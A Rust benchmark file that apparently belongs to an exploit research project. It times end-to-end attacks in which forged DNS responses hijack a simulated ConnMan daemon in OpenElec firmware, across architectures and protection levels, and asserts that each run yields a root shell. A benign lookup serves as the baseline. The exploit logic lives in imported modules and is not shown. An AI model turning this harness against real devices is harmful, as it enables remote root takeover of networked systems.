//! End-to-end attack benchmarks: one full resolve→forge→deliver→hijack
//! cycle per scenario (boot excluded via batched setup).

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};

use cml_exploit::matrix::{matched_strategy, LEVELS};
use cml_exploit::target::deliver_labels;
use cml_exploit::TargetInfo;
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

fn bench_exploits(c: &mut Criterion) {
    let mut g = c.benchmark_group("end_to_end");
    g.sample_size(20);
    for arch in Arch::ALL {
        let fw = Firmware::build(FirmwareKind::OpenElec, arch);
        for protections in LEVELS {
            let strategy = matched_strategy(arch, &protections);
            let fw2 = fw.clone();
            let info = TargetInfo::gather(fw.image(), move || fw2.boot(protections, 5))
                .expect("vulnerable firmware");
            let labels = strategy.build(&info).unwrap().to_labels().unwrap();
            let fw3 = fw.clone();
            g.bench_function(format!("{}_{arch}", strategy.paper_section()), |b| {
                b.iter_batched(
                    || fw3.boot(protections, 0xD00D),
                    |mut victim| {
                        let out = deliver_labels(&mut victim, labels.clone()).unwrap();
                        assert!(out.is_root_shell(), "{out}");
                        out
                    },
                    BatchSize::SmallInput,
                )
            });
        }
    }
    g.finish();
}

fn bench_benign_resolution(c: &mut Criterion) {
    // Baseline: what a lookup costs when nobody is attacking.
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
    let mut g = c.benchmark_group("end_to_end");
    g.sample_size(20);
    g.bench_function("benign_lookup_ARMv7", |b| {
        b.iter_batched(
            || fw.boot(Protections::full(), 0xD00D),
            |mut daemon| {
                use cml_connman::Resolution;
                use cml_dns::forge::ResponseForge;
                use cml_dns::{Message, Name, RecordType};
                let name = Name::parse("cloud.example").unwrap();
                let Resolution::Query(q) = daemon.resolve(&name, RecordType::A) else {
                    unreachable!("cold cache");
                };
                let query = Message::decode(&q).unwrap();
                let resp = ResponseForge::answering(&query)
                    .with_payload_labels(vec![b"cloud".to_vec(), b"example".to_vec()])
                    .unwrap()
                    .build()
                    .unwrap();
                daemon.deliver_response(&resp)
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

criterion_group!(benches, bench_exploits, bench_benign_resolution);
criterion_main!(benches);
